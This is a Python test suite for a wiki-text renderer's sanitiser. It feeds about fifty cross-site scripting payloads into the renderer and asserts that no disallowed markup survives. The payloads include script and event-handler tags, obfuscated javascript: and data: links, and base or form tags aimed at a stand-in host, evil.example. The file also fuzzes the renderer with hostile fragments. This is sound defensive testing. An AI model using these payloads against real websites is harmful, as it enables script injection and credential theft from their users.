"""Nothing that anybody writes becomes script, style or markup that is not on the list."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.wikitext.quotes import Answer, AnswerPart
from apps.wikitext.render import Mark, ResolvedLink, parse, render
from apps.wikitext.sanitise import ALLOWED, sanitise
from tests.wikitext.payloads import PAYLOADS
from tests.wikitext.strict import Reader

KNOWN = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<div style='position:fixed'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</p><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org/ '\"onmouseover=alert(1)')",
    '![x" onerror="alert(1)](https://example.org/)',
    "[r]\n\n[r]: javascript:alert(1)",
    "```<script>\nx\n```",
    '```"onmouseover="alert(1)\nx\n```',
    '[[x" onmouseover="alert(1)]]',
    "[[<script>alert(1)</script>]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]]",
    '[@a, " onmouseover="alert(1)]',
    "[@a, <script>alert(1)</script>]",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "x^[<img src=x onerror=alert(1)>]",
    "| <script> |\n|:-:|\n| <b onclick=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>\x00alert(1)</script>",
]


def careless(target):
    """A resolver that passes on whatever was written."""
    return ResolvedLink(target.name, False, target.name)


def hostile_link(target):
    return ResolvedLink("javascript:alert(1)", True, "<script>")


def hostile_mark(citation):
    return Mark(1, '"><script>alert(1)</script>', '" onmouseover="alert(1)')


def hostile_answer(quote):
    """Words, titles, errors and addresses that no reader of facts would give."""
    bad = "\"'><script>alert(1)</script>"
    return Answer((AnswerPart(bad, "/\\evil.example"), AnswerPart(bad, bad)), title=bad, source="javascript:alert(1)")


def hostile_error(quote):
    return Answer(error="<script>alert(1)</script>")


@pytest.mark.parametrize("payload", KNOWN)
@pytest.mark.parametrize(("link", "cite"), [(careless, lambda citation: None), (hostile_link, hostile_mark)])
def test_hostile_prose_is_harmless(payload, link, cite):
    html = render(payload, link=link, cite=cite).html
    Reader(html)
    for tag in ("<script", "<img", "<svg", "<iframe", "<style", "<base", "<form"):
        assert tag not in html.lower()


@pytest.mark.parametrize("payload", KNOWN)
def test_hostile_html_is_harmless_even_if_the_renderer_let_it_through(payload):
    Reader(sanitise(payload))


def test_whatever_is_hostile_is_harmless_wherever_it_stands():
    assert len(PAYLOADS) > 15_000
    for payload in PAYLOADS:
        Reader(parse(payload).fill())


@pytest.mark.parametrize(("link", "quote"), [(careless, hostile_answer), (hostile_link, hostile_error)])
def test_it_is_harmless_too_whatever_the_page_answers(link, quote):
    for payload in PAYLOADS[::5]:
        html = parse(payload).fill(link=link, cite=hostile_mark, quote=quote)
        Reader(html)
        assert 'href="/\\' not in html


def test_it_is_harmless_even_if_nothing_sanitised_it(monkeypatch):
    monkeypatch.setattr("apps.wikitext.render.sanitise", str)
    for payload in PAYLOADS[::5]:
        html = parse(payload).fill(link=careless, cite=hostile_mark)
        Reader(re.sub(r'<code class="language-[^"<>]*">', "<code>", html))


MARKS = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "[[",
            "]]",
            "[@a",
            "|",
            "`",
            "```",
            "*",
            "_",
            "!",
            "\\",
            "&",
            "&#",
            ";",
            '"',
            "'",
        ),
        *(
            "javascript:",
            "data:",
            "script",
            " on",
            "onerror=",
            "style=",
            "=",
            "://",
            "\n",
            "\n\n",
            "    ",
            "# ",
            "> ",
            "- ",
        ),
        *("[^", "^[", "|---|", "\x00", "\u202e", "&colon;", "&Tab;", "x", "{{a}}", "{{", "}}"),
    ]
)


def with_quotes(html):
    """HTML without the two escapes that are not needed between tags."""
    return html.replace("&quot;", '"').replace("&#x27;", "'")


@given(st.lists(MARKS | st.text(max_size=4), max_size=25).map("".join))
def test_any_prose_renders_to_what_is_on_the_list(text):
    rendered = render(text, link=careless, cite=hostile_mark, quote=hostile_answer)
    Reader(rendered.html)
    assert with_quotes(sanitise(rendered.html)) == with_quotes(rendered.html)


def test_the_list_itself_lets_no_script_or_style_in():
    assert not {"script", "style", "iframe", "object", "form", "svg", "img"} & set(ALLOWED)
    assert not {"style", "src", "srcdoc"} & {name for names in ALLOWED.values() for name in names}
    assert not [name for names in ALLOWED.values() for name in names if name.startswith("on")]


def test_the_reader_of_these_tests_would_notice():
    for html in ("<script>", "<p onclick=x>", '<a href="javascript:x">', '<p style="x">', "<img>"):
        with pytest.raises(AssertionError):
            Reader(html)
